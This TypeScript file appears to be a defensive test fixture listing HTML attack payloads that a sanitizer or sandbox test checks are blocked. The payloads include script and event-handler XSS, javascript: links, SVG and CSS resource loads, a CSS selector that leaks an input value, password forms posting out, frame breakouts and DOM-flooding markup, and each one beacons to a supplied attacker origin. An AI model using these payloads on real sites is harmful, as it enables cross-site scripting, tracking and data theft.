/** What a hostile message tries, one row per attack; without protection each of them acts (a test shows it). */

export interface Attack {
  /** What the message holds. */
  name: string;
  /** @param at origin that the message wants to reach */
  html(at: string): string;
  /** It waits for somebody to press on it: a text that is on it. */
  press?: string;
  /** It wants to keep the browser busy rather than to reach somebody: so many elements at least. */
  elements?: number;
}

const beacon = (at: string): string => `new Image().src='${at}/beacon'`;

const MANY = 100_000;

export const ATTACKS: readonly Attack[] = [
  { name: 'a script', html: (at) => `<script>${beacon(at)}</script>` },
  { name: 'a script from elsewhere', html: (at) => `<script src="${at}/script.js"></script>` },
  {
    name: 'a script that asks, writes and leaves',
    html: (at) =>
      `<script>try{top.document.title='owned';parent.document.body.innerHTML=''}catch{};alert('owned');${beacon(at)};try{top.location='${at}/left'}catch{}</script>`,
  },
  { name: 'onerror of an image', html: (at) => `<img src="nowhere:" onerror="${beacon(at)}">` },
  { name: 'onload of the body', html: (at) => `<body onload="${beacon(at)}">` },
  {
    name: 'onfocus of a field that takes the focus',
    html: (at) => `<input autofocus onfocus="${beacon(at)}">`,
  },
  { name: 'ontoggle', html: (at) => `<details open ontoggle="${beacon(at)}"><summary>x</summary></details>` },
  {
    name: 'onanimationstart',
    html: (at) =>
      `<style>@keyframes a{from{color:red}}</style><p style="animation:a 1ms" onanimationstart="${beacon(at)}">x</p>`,
  },
  {
    name: 'a link to javascript:',
    html: (at) => `<a href="javascript:${beacon(at)}">press</a>`,
    press: 'press',
  },
  { name: 'SVG with a script', html: (at) => `<svg><script>${beacon(at)}</script></svg>` },
  { name: 'SVG with onload', html: (at) => `<svg onload="${beacon(at)}"></svg>` },
  { name: 'SVG with an image', html: (at) => `<svg><image href="${at}/i.png" width="9" height="9"/></svg>` },
  {
    name: 'SVG whose foreign object is a page',
    html: (at) => `<svg><foreignObject width="9" height="9"><img src="${at}/f.png"></foreignObject></svg>`,
  },
  {
    name: 'SVG with a filter image',
    html: (at) =>
      `<svg><filter id="f"><feImage href="${at}/fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  },
  { name: 'CSS url()', html: (at) => `<style>body{background:url(${at}/b.png)}</style>x` },
  { name: 'CSS url() of one element', html: (at) => `<p style="background:url('${at}/p.png')">x</p>` },
  { name: 'CSS image-set()', html: (at) => `<p style="background:image-set('${at}/s.png' 1x)">x</p>` },
  {
    name: 'CSS cursor, list and content',
    html: (at) => `<style>p::before{content:url(${at}/c.png)}</style><p>x</p>`,
  },
  { name: 'CSS @import', html: (at) => `<style>@import '${at}/i.css';</style>` },
  {
    name: 'CSS @font-face',
    html: (at) => `<style>@font-face{font-family:f;src:url(${at}/f.woff2)}p{font-family:f}</style><p>x</p>`,
  },
  {
    name: 'CSS attribute selectors that read a value',
    html: (at) =>
      `<style>input[value^="s"]{background:url(${at}/begins-with-s)}</style><input value="secret">`,
  },
  { name: 'a stylesheet from elsewhere', html: (at) => `<link rel="stylesheet" href="${at}/s.css">` },
  { name: 'prefetch', html: (at) => `<link rel="prefetch" href="${at}/p.html">` },
  { name: 'meta refresh', html: (at) => `<meta http-equiv="refresh" content="0; url=${at}/r.html">` },
  {
    name: 'a form',
    html: (at) => `<form action="${at}/form"><input name="password"><button>press</button></form>`,
    press: 'press',
  },
  {
    name: 'a form that leaves the frame',
    html: (at) => `<form action="${at}/form" target="_top"><button>press</button></form>`,
    press: 'press',
  },
  {
    name: 'a link that leaves the frame',
    html: (at) => `<a href="${at}/" target="_top">press</a>`,
    press: 'press',
  },
  {
    name: 'a link with a ping',
    html: (at) => `<a href="#x" ping="${at}/ping" target="_self">press</a>`,
    press: 'press',
  },
  { name: 'a frame', html: (at) => `<iframe src="${at}/frame.html"></iframe>` },
  {
    name: 'a frame that holds a page of its own',
    html: (at) => `<iframe srcdoc="<script>${beacon(at)}</script><img src='${at}/s.png'>"></iframe>`,
  },
  { name: 'an object', html: (at) => `<object data="${at}/o.html" type="text/html"></object>` },
  { name: 'an embedded document', html: (at) => `<embed src="${at}/e.html" type="text/html">` },
  { name: 'a base', html: (at) => `<base href="${at}/"><img src="relative.png">` },
  { name: 'a remote image', html: (at) => `<img src="${at}/pixel.gif" width="1" height="1">` },
  { name: 'a remote image in a set', html: (at) => `<img srcset="${at}/1x.png 1x, ${at}/2x.png 2x">` },
  {
    name: 'a remote image by choice',
    html: (at) => `<picture><source srcset="${at}/p.webp"><img src="nowhere:"></picture>`,
  },
  { name: 'a remote image as a button', html: (at) => `<input type="image" src="${at}/i.png">` },
  {
    name: 'a remote background of a table',
    html: (at) => `<table background="${at}/t.png"><td>x</td></table>`,
  },
  { name: 'a poster', html: (at) => `<video poster="${at}/v.png"></video>` },
  { name: 'a sound', html: (at) => `<audio src="${at}/a.mp3" preload="auto" autoplay></audio>` },
  { name: 'subtitles', html: (at) => `<video src="${at}/v.mp4" preload="auto"></video>` },
  { name: `${MANY} nested elements`, html: () => '<div>'.repeat(MANY), elements: MANY },
  {
    name: 'a huge table',
    html: () => `<table>${`<tr>${'<td>x'.repeat(100)}`.repeat(MANY / 100)}</table>`,
    elements: MANY,
  },
  {
    name: 'formatting that is opened anew in each of many blocks',
    html: () =>
      `<p>${Array.from({ length: 300 }, (_, i) => `<b x=${i}>`).join('')}x</p>${'<p>x</p>'.repeat(1_000)}`,
    elements: MANY,
  },
];
